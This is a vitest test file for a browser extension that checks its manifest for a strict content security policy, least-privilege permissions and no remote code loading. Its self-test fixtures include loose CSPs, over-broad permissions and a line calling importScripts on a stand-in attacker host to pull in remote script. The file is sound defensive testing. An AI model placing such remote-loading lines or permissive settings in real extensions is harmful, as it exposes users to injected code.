/**
 * No egress, no remote code, least privilege: checked on the source of the manifest (wxt.config.ts) in
 * every run, and on the last build when there is one. The end-to-end phase (tests/e2e/manifest.e2e.ts)
 * checks the fresh build that `npm test` makes, so a fresh clone is covered too.
 */
import fs from 'node:fs';
import { describe, expect, it } from 'vitest';
import config from '../../../wxt.config';
import {
  BUILD_DIRS,
  cspProblems,
  extensionPagesCsp,
  freshBuild,
  manifestProblems,
  remoteSourceUses,
  type Manifest,
} from './build-checks';

type ManifestFn = (env: { browser: string; manifestVersion: number; mode: string; command: string }) => Manifest;

function sourceManifest(browser: 'chrome' | 'firefox'): Manifest {
  const m = config.manifest as unknown;
  const fn = typeof m === 'function' ? (m as ManifestFn) : () => m as Manifest;
  return { ...fn({ browser, manifestVersion: browser === 'chrome' ? 3 : 2, mode: 'production', command: 'build' }), manifest_version: browser === 'chrome' ? 3 : 2 };
}

describe('manifest source (wxt.config.ts)', () => {
  it.each(['chrome', 'firefox'] as const)('%s: strict CSP and least privilege', (browser) => {
    const m = sourceManifest(browser);
    expect(cspProblems(extensionPagesCsp(m))).toEqual([]);
    expect(manifestProblems(m)).toEqual([]);
  });
});

describe('the checks themselves can fail', () => {
  it('flag loose CSPs', () => {
    expect(cspProblems("script-src 'self' 'unsafe-eval'; object-src 'none'; connect-src 'none'")).toContain("script-src allows 'unsafe-eval'");
    expect(cspProblems("script-src 'self' https://cdn.example.org; object-src 'none'; connect-src 'none'").join()).toMatch(/remote https:/);
    expect(cspProblems("script-src 'self'; object-src 'none'").join()).toMatch(/connect-src/);
    expect(cspProblems(undefined)).toHaveLength(1);
  });

  it('flag broad or unlisted permissions', () => {
    const bad: Manifest = {
      manifest_version: 3,
      permissions: ['storage', 'tabs', 'webRequest'],
      host_permissions: ['<all_urls>', 'https://ehr.example.org/*'],
      externally_connectable: { matches: ['https://*/*'] },
      update_url: 'https://example.org/updates.xml',
      web_accessible_resources: [{ resources: ['*'], matches: ['<all_urls>'] }],
    };
    expect(manifestProblems(bad)).toHaveLength(7);
    // MV2 (Firefox): host permissions live in `permissions`.
    expect(manifestProblems({ manifest_version: 2, permissions: ['storage', '*://*/*'] })).toHaveLength(1);
  });

  it('find remote script, style and font sources, and ignore documentation links', () => {
    const dir = fs.mkdtempSync(`${process.env.TMPDIR ?? '/tmp'}/sms-build-`);
    fs.writeFileSync(`${dir}/page.html`, '<script src="https://cdn.example.org/x.js"></script><a href="https://lit.dev/msg/x">docs</a>');
    fs.writeFileSync(`${dir}/a.css`, '@import url("https://fonts.googleapis.com/css?family=Roboto"); @font-face { src: url(//x.org/f.woff2) }');
    fs.writeFileSync(`${dir}/b.js`, '/* https://lit.dev */ const m = "see https://example.org"; importScripts("https://evil.example/x.js");');
    const kinds = remoteSourceUses(dir).uses.map((u) => u.kind).sort();
    fs.rmSync(dir, { recursive: true });
    expect(kinds).toEqual(['<script src>', '@font-face', '@import', 'CSS url()', 'CSS url()', 'importScripts'].sort());
  });
});

describe('last build in .output (the e2e phase checks a fresh one)', () => {
  for (const [browser, dir] of Object.entries(BUILD_DIRS)) {
    const build = freshBuild(dir);
    if ('skip' in build) {
      it.skip(`${browser}: ${build.skip} - skipped here; the e2e phase of npm test builds and checks it (tests/e2e/manifest.e2e.ts)`, () => {});
      continue;
    }
    const { manifest } = build;
    it(`${browser}: built manifest is least-privilege with a strict CSP, and no file loads remote code, styles or fonts`, () => {
      expect(manifestProblems(manifest)).toEqual([]);
      expect(cspProblems(extensionPagesCsp(manifest))).toEqual([]);
      const { files, uses } = remoteSourceUses(dir);
      expect(files).toBeGreaterThan(0);
      expect(uses).toEqual([]);
    });
  }
});
